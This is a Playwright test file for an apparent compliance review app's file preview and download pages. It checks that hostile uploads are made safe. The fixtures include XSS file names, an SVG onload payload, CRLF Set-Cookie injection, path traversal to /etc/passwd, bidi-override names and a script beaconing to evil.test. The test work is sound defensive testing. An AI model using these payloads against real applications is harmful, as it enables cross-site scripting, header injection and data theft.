import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import type { Page } from "@playwright/test";
import { FileDetail } from "@/lib/schemas/files";
import { LONG_LOG_LAST_LINE } from "@/lib/simulator/dataset/file-bytes";
import { expect, readAuditRows, test } from "./support/fixtures";
import { SMALL_SEED_1_ARTIFACTS, SMALL_SEED_1_FILES, SMALL_SEED_1_PREVIEW_CORPUS } from "@/tests/support/simulator-ids";
import type { SeededSession } from "./support/stack";

const { chat: FILES_CHAT, uploads: UPLOADS, generatedFiles: GENERATED } = SMALL_SEED_1_FILES;
const UPLOADED = {
  pdf: UPLOADS.pdf,
  png: UPLOADS.png,
  csv: UPLOADS.csv,
  docx: UPLOADS.docx,
  txt: UPLOADS.txt,
  json: UPLOADS.json,
  md: UPLOADS.md,
  svg: UPLOADS.svg,
};
const HOSTILE_SVG = UPLOADS.hostileSvg;
const HOSTILE_MARKDOWN = UPLOADS.pathTraversal;
const GENERATED_CSV = GENERATED.csv;
const { chat: CORPUS_CHAT, files: CORPUS } = SMALL_SEED_1_PREVIEW_CORPUS;
/** A project with attachments (fixtures projectWithoutChats). */
const PROJECT_WITH_ATTACHMENTS = SMALL_SEED_1_ARTIFACTS.documentsProject;
/** The longest name Docket hands a browser, in UTF-8 bytes (lib/server/files/content-disposition.ts). */
const MAX_SAVED_NAME_BYTES = 150;
const EXPIRED_GENERATED = GENERATED.expired;

/**
 * Every upload of the dataset's files and hostile chats, with the name the page shows and the name it
 * must be saved under: hostile names made safe (no path, no bidi override, quotes, semicolons and what
 * Windows forbids replaced), every other name exactly as uploaded, whatever its script.
 */
const DOWNLOAD_NAMES: Array<[fileId: string, shown: string, saved: string]> = [
  [UPLOADS.pdf, "dashboard_mockup_v1.pdf", "dashboard_mockup_v1.pdf"],
  [UPLOADS.png, "screenshot 2026-03-14 at 09.41.22.png", "screenshot 2026-03-14 at 09.41.22.png"],
  [UPLOADS.csv, "Q3 numbers, draft.csv", "Q3 numbers, draft.csv"],
  [UPLOADS.docx, "NDA - Globex.docx", "NDA - Globex.docx"],
  [UPLOADS.txt, "meeting notes – 14 März.txt", "meeting notes – 14 März.txt"],
  [UPLOADS.json, "schéma données.json", "schéma données.json"],
  [UPLOADS.md, "議事録 2026-04-10.md", "議事録 2026-04-10.md"],
  [UPLOADS.svg, "icon set ✨.svg", "icon set ✨.svg"],
  [UPLOADS.chineseCsv, "销售数据.csv", "销售数据.csv"],
  [UPLOADS.hebrewDocx, "הסכם שירותים.docx", "הסכם שירותים.docx"],
  [UPLOADS.emojiPng, "whiteboard 📸.png", "whiteboard 📸.png"],
  [UPLOADS.quotedPdf, '"quarterly report"; filename=evil.exe; .pdf', "_quarterly report__ filename=evil.exe_ .pdf"],
  [UPLOADS.scriptTxt, "<script>window.__xss=1</script>.txt", "script_.txt"],
  // The override is written out on the page rather than left to turn "fdp.exe" around.
  [UPLOADS.bidiExe, "invoice⟦U+202E⟧fdp.exe", "invoicefdp.exe"],
  [UPLOADS.hostileSvg, '"><svg onload=window.__xss=1>.svg', "___svg onload=window.__xss=1_.svg"],
  [UPLOADS.encodedCsv, "%22encoded%22 %0d%0aSet-Cookie: x=1.csv", "%22encoded%22 %0d%0aSet-Cookie_ x=1.csv"],
  [UPLOADS.pathTraversal, "../../../../etc/passwd", "passwd"],
  // The preview corpus: a line break and a right-to-left mark are written out on the page and dropped from
  // the saved name; a path keeps its last segment; the trailing dot and space Windows would drop go.
  [CORPUS.lineBreak, "minutes⟦U+000D⟧⟦U+000A⟧Set-Cookie: docket_session=stolen.txt", "minutes Set-Cookie_ docket_session=stolen.txt"],
  [CORPUS.rightToLeftMark, "contract⟦U+200F⟧ (signed).pdf", "contract (signed).pdf"],
  [CORPUS.parentPath, "../../../var/log/../audit.csv", "audit.csv"],
  [CORPUS.trailingDot, "board minutes.txt.", "board minutes.txt"],
  [CORPUS.trailingSpace, "budget 2026.csv ", "budget 2026.csv"],
];

let reviewer: SeededSession;

/** Fails the test on any dialog: some payloads in the dataset call alert(). */
function forbidDialogs(page: Page): string[] {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

async function download(page: Page) {
  const [started] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download", exact: true }).click()]);
  return started;
}

/** The reviewer's audited acts of one kind on one object. */
const reviewerAudit = (action: string, targetId: string) => readAuditRows({ subject: reviewer.subject, action, targetId });

test.beforeEach(async ({ signedInAs }) => {
  reviewer = await signedInAs("reviewer");
});

test.afterEach(async ({ simulator }) => {
  await simulator.clearFaults();
});

test("each preview type renders, with the MD5 verified", async ({ page }) => {
  const dialogs = forbidDialogs(page);
  await page.goto(`/files/${UPLOADED.png}`);
  await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
  const image = page.getByRole("img", { name: /^Preview of / });
  await expect(image).toBeVisible();
  expect(await image.evaluate((element: HTMLImageElement) => element.complete && element.naturalWidth > 0)).toBe(true);

  await page.goto(`/files/${UPLOADED.csv}`);
  const table = page.getByRole("table", { name: "CSV preview" });
  await expect(table.locator("thead th").first()).toBeVisible();
  expect(await table.locator("tbody tr").count()).toBeGreaterThan(1);

  await page.goto(`/files/${UPLOADED.txt}`);
  await expect(page.getByTestId("text-preview")).not.toBeEmpty();

  await page.goto(`/files/${UPLOADED.json}`);
  await expect(page.getByTestId("text-preview")).toContainText("\n  ");

  await page.goto(`/files/${UPLOADED.md}`);
  await expect(page.getByRole("region", { name: "Preview" }).getByRole("button", { name: "Show source" })).toBeVisible();
  await expect(page.getByRole("region", { name: "Preview" }).locator("p").first()).toBeVisible();

  await page.goto(`/files/${UPLOADED.svg}`);
  await expect(page.getByTestId("text-preview")).toContainText("<svg");
  await expect(page.getByRole("region", { name: "Preview" }).locator("svg")).toHaveCount(0);

  await page.goto(`/files/${UPLOADED.pdf}`);
  await expect(page.getByRole("region", { name: "Preview" })).toContainText("PDF files can carry scripts");
  await expect(page.locator("iframe, embed, object")).toHaveCount(0);

  await page.goto(`/files/${UPLOADED.docx}`);
  await expect(page.getByRole("region", { name: "Preview" })).toContainText("Docket shows no preview");
  expect(dialogs).toEqual([]);
});

for (const [fileId, shown, saved] of DOWNLOAD_NAMES) {
  test(`${JSON.stringify(shown)} is shown as text and downloads as ${JSON.stringify(saved)}, its bytes verified`, async ({ page }) => {
    const detail = FileDetail.parse(await (await page.request.get(`/api/files/${fileId}`, { headers: { cookie: reviewer.cookie } })).json());
    await page.goto(`/files/${fileId}`);
    // The file's own header: a Markdown preview may hold a heading of the same name.
    await expect(page.getByRole("main").locator("header").getByRole("heading", { level: 1 })).toHaveText(shown);
    const file = await download(page);
    expect(file.suggestedFilename()).toBe(saved);
    expect(await file.failure()).toBeNull();
    expect(
      createHash("md5")
        .update(await readFile((await file.path())!))
        .digest("hex"),
    ).toBe(detail.recordedMd5);
    await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
    expect((await reviewerAudit("file.download", fileId)).map((row) => [row.outcome, row.params.md5 ?? null])).toEqual([
      ["intent", null],
      ["success", "matched"],
    ]);
  });
}

test("a CR/LF in a file name never becomes a header of its own, in the response or in the browser", async ({ page, context }) => {
  const response = await page.request.get(`/api/files/${CORPUS.lineBreak}/download`, { headers: { cookie: reviewer.cookie } });
  expect(response.status()).toBe(200);
  expect(response.headersArray().filter((header) => header.name.toLowerCase() === "set-cookie")).toEqual([]);
  expect(response.headers()["content-disposition"]).toBe(
    `attachment; filename="minutes Set-Cookie_ docket_session=stolen.txt"; filename*=UTF-8''minutes%20Set-Cookie_%20docket_session%3Dstolen.txt`,
  );
  await page.goto(`/files/${CORPUS.lineBreak}`);
  await expect(page.getByRole("note").filter({ hasText: "invisible or direction-changing characters" })).toBeVisible();
  expect((await download(page)).suggestedFilename()).toBe("minutes Set-Cookie_ docket_session=stolen.txt");
  expect((await context.cookies()).map((cookie) => cookie.name)).not.toContain("docket_session");
});

test("a name of 255 UTF-8 bytes is saved shortened on character boundaries, its extension kept, its bytes verified", async ({ page }) => {
  const detail = FileDetail.parse(await (await page.request.get(`/api/files/${CORPUS.maxLength}`, { headers: { cookie: reviewer.cookie } })).json());
  const original = detail.filename!;
  expect(Buffer.byteLength(original, "utf8")).toBe(255);
  await page.goto(`/files/${CORPUS.maxLength}`);
  await expect(page.getByRole("main").locator("header").getByRole("heading", { level: 1 })).toHaveText(original);
  const file = await download(page);
  const saved = file.suggestedFilename();
  expect(saved).toBe(detail.downloadName);
  expect(saved.endsWith(".txt")).toBe(true);
  expect(Buffer.byteLength(saved, "utf8")).toBeLessThanOrEqual(MAX_SAVED_NAME_BYTES);
  // Cut where a whole character ends, and no further than the next one would need.
  expect(Buffer.byteLength(saved, "utf8")).toBeGreaterThan(MAX_SAVED_NAME_BYTES - 4);
  expect(original.startsWith(saved.slice(0, -".txt".length))).toBe(true);
  expect(
    createHash("md5")
      .update(await readFile((await file.path())!))
      .digest("hex"),
  ).toBe(detail.recordedMd5);
  await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
});

test("JPEG, GIF and WebP uploads preview as images; a log past 256 KiB is cut with a notice", async ({ page }) => {
  const dialogs = forbidDialogs(page);
  for (const fileId of [CORPUS.jpeg, CORPUS.gif, CORPUS.webp]) {
    await page.goto(`/files/${fileId}`);
    await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
    const image = page.getByRole("img", { name: /^Preview of / });
    await expect(image).toBeVisible();
    expect(await image.evaluate((element: HTMLImageElement) => element.complete && element.naturalWidth > 0)).toBe(true);
  }

  await page.goto(`/files/${CORPUS.longText}`);
  const preview = page.getByRole("region", { name: "Preview" });
  await expect(preview).toContainText(/Showing the first 256\.0 KiB \(262,144 bytes\) of .* Download the file for the rest\./);
  await expect(page.getByTestId("text-preview")).toContainText("INFO request 000001");
  await expect(page.getByTestId("text-preview")).not.toContainText(LONG_LOG_LAST_LINE);
  expect(dialogs).toEqual([]);
});

test("an HTML upload shows as source and a PDF with a JavaScript OpenAction as a download only: neither runs on the app origin", async ({ page, baseURL }) => {
  const dialogs = forbidDialogs(page);
  const offOrigin: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).origin !== new URL(baseURL!).origin) offOrigin.push(request.url());
  });
  await page.goto(`/files/${CORPUS.html}`);
  await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
  await expect(page.getByTestId("text-preview")).toContainText('<script>window.__xss=1;navigator.sendBeacon("https://evil.test/html-upload")</script>');
  await expect(page.getByText("Web pages can carry scripts, so Docket shows this one's source and never renders it.")).toBeVisible();
  await expect(page.locator("main script, main iframe, main img, main embed, main object")).toHaveCount(0);
  const html = await page.request.get(`/api/files/${CORPUS.html}/download`, { headers: { cookie: reviewer.cookie } });
  expect(html.headers()).toMatchObject({
    "content-type": "application/octet-stream",
    "x-content-type-options": "nosniff",
    "content-security-policy": "sandbox; default-src 'none'; frame-ancestors 'none'",
  });

  await page.goto(`/files/${CORPUS.pdfWithJavaScript}`);
  await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
  await expect(page.getByRole("region", { name: "Preview" })).toContainText("PDF files can carry scripts");
  await expect(page.locator("iframe, embed, object")).toHaveCount(0);
  const pdf = await download(page);
  expect(pdf.suggestedFilename()).toBe("form (fill in).pdf");
  await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");

  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(offOrigin).toEqual([]);
  expect(dialogs).toEqual([]);
});

test("the thread's file chips write out hidden and direction-changing characters in names", async ({ page }) => {
  await page.goto(`/chats/${CORPUS_CHAT}`);
  await expect(page.getByRole("link", { name: "File: minutes⟦U+000D⟧⟦U+000A⟧Set-Cookie: docket_session=stolen.txt" })).toHaveAttribute(
    "href",
    `/files/${CORPUS.lineBreak}`,
  );
  await expect(page.getByRole("link", { name: "File: contract⟦U+200F⟧ (signed).pdf" })).toHaveAttribute("href", `/files/${CORPUS.rightToLeftMark}`);
  await expect(page.getByRole("link", { name: "Artifact: Approval stamp" }).first()).toBeVisible();
  const chipTexts = await page.getByRole("list", { name: "Attachments" }).evaluateAll((lists) => lists.map((list) => list.textContent ?? ""));
  expect(chipTexts.length).toBeGreaterThan(0);
  expect(chipTexts.filter((text) => /[\u0000-\u001f\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(text))).toEqual([]);
});

test("a project attachment's hidden and direction-changing characters are written out", async ({ page }) => {
  const projectPath = `/api/projects/${PROJECT_WITH_ATTACHMENTS}`;
  // No project of the dataset has such a name, so one is given one in the response the page reads.
  await page.route(`**${projectPath}`, async (route) => {
    const response = await route.fetch();
    const detail = (await response.json()) as { attachments: Array<{ filename: string | null }> };
    detail.attachments[0]!.filename = "invoice\u202Efdp.exe";
    await route.fulfill({ response, json: detail });
  });
  await page.goto(`/projects/${PROJECT_WITH_ATTACHMENTS}`);
  const attachments = page.getByRole("region", { name: "Attachments" });
  await expect(attachments.getByText("invoice⟦U+202E⟧fdp.exe", { exact: true })).toBeVisible();
  expect(await attachments.evaluate((region) => /\u202E/.test(region.textContent ?? ""))).toBe(false);
});

test("an MD5 mismatch injected upstream raises the alarm, stops the download and is audited", async ({ page, serverErrors, simulator }) => {
  const fileId = UPLOADED.docx;
  // The file is smaller than one piece, so the mismatch is found before its first byte would leave: the
  // response fails as a whole instead of breaking off.
  serverErrors.expect({ status: 500, url: new RegExp(`^/api/files/${fileId}/download\\?`) });
  await simulator.setFaults([{ match: { path: `/v1/compliance/apps/chats/files/${fileId}/content` }, fault: { type: "wrong_md5" } }]);
  await page.goto(`/files/${fileId}`);
  const alarm = page.getByRole("alert").filter({ hasText: "MD5 mismatch" });
  await expect(alarm).toBeVisible();
  await expect(alarm).toContainText("do not match the MD5 the Compliance API sent");

  const stopped = await download(page);
  expect(await stopped.failure()).not.toBeNull();
  await expect(page.getByRole("alert", { name: "Download outcome" })).toContainText("Download stopped");

  const views = await reviewerAudit("file.view", fileId);
  expect(views.find((row) => row.params.part === "integrity")?.params).toMatchObject({ verdict: "mismatch", findings: ["served_md5_differs"] });
  const downloads = await reviewerAudit("file.download", fileId);
  expect(downloads.map((row) => row.outcome)).toEqual(["intent", "failure"]);
  expect(downloads[1]!.params).toMatchObject({ md5: "mismatched" });
});

test("SVG and markup in files never run on the app origin", async ({ page, baseURL }) => {
  const dialogs = forbidDialogs(page);
  for (const fileId of [HOSTILE_SVG, UPLOADED.svg, HOSTILE_MARKDOWN, UPLOADED.txt]) {
    await page.goto(`/files/${fileId}`);
    await expect(page.getByRole("region", { name: "Preview" })).not.toContainText("Loading");
    await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
  }
  await expect(page.locator("main svg, main script, main iframe")).toHaveCount(0);

  // Opened directly, the SVG is a download, not a document on Docket's origin.
  await page.goto(`/files/${HOSTILE_SVG}`);
  const [svgDownload] = await Promise.all([
    page.waitForEvent("download"),
    page.evaluate((url) => void (window.location.href = url), `${baseURL}/api/files/${HOSTILE_SVG}/download`),
  ]);
  expect(svgDownload.suggestedFilename()).toBe("___svg onload=window.__xss=1_.svg");
  const response = await page.request.get(`/api/files/${HOSTILE_SVG}/download`, { headers: { cookie: reviewer.cookie } });
  expect(response.headers()).toMatchObject({
    "content-type": "application/octet-stream",
    "x-content-type-options": "nosniff",
    "content-security-policy": "sandbox; default-src 'none'; frame-ancestors 'none'",
  });
  expect(response.headers()["content-disposition"]).toMatch(/^attachment; /);
  const asImage = await page.request.get(`/api/files/${HOSTILE_SVG}/image`, { headers: { cookie: reviewer.cookie } });
  expect(asImage.status()).toBe(400);
  expect(asImage.headers()["content-type"]).toContain("application/json");
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
});

test("a generated file links the chat that produced it; an expired one offers nothing to download", async ({ page }) => {
  await page.goto(`/generated-files/${GENERATED_CSV}`);
  await expect(page.getByText("Generated file")).toBeVisible();
  await expect(page.getByRole("link", { name: FILES_CHAT })).toHaveAttribute("href", `/chats/${FILES_CHAT}`);
  await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
  const saved = await download(page);
  expect(saved.suggestedFilename()).toBe("requirements_summary.csv");
  await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
  expect((await reviewerAudit("generated_file.download", GENERATED_CSV)).map((row) => row.outcome)).toEqual(["intent", "success"]);

  await page.goto(`/generated-files/${EXPIRED_GENERATED}`);
  await expect(page.getByRole("status")).toContainText("holds no bytes");
  await expect(page.getByRole("link", { name: "Download", exact: true })).toHaveCount(0);
});

test("an uploaded file links its chat and the messages that reference it", async ({ page }) => {
  const detail = FileDetail.parse(await (await page.request.get(`/api/files/${UPLOADED.pdf}`, { headers: { cookie: reviewer.cookie } })).json());
  expect(detail.messageIds).toHaveLength(2);
  await page.goto(`/files/${UPLOADED.pdf}`);
  await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
  await expect(page.getByRole("link", { name: FILES_CHAT })).toHaveAttribute("href", `/chats/${FILES_CHAT}`);
  for (const messageId of detail.messageIds) {
    await expect(page.getByRole("link", { name: messageId })).toHaveAttribute("href", `/chats/${FILES_CHAT}?message=${messageId}`);
  }
  // The metadata as the API sent it: its own field names, not Docket's.
  await page.getByText("The metadata's raw JSON").click();
  await expect(page.locator("pre[data-raw-json]")).toContainText(`"claude_chat_ids": [`);
  await expect(page.locator("pre[data-raw-json]")).toContainText(`"id": "${UPLOADED.pdf}"`);
  const viewed = (await reviewerAudit("file.view", UPLOADED.pdf)).map((row) => row.params.part);
  expect(viewed).toContain("metadata");
  expect(viewed).toContain("integrity");
});
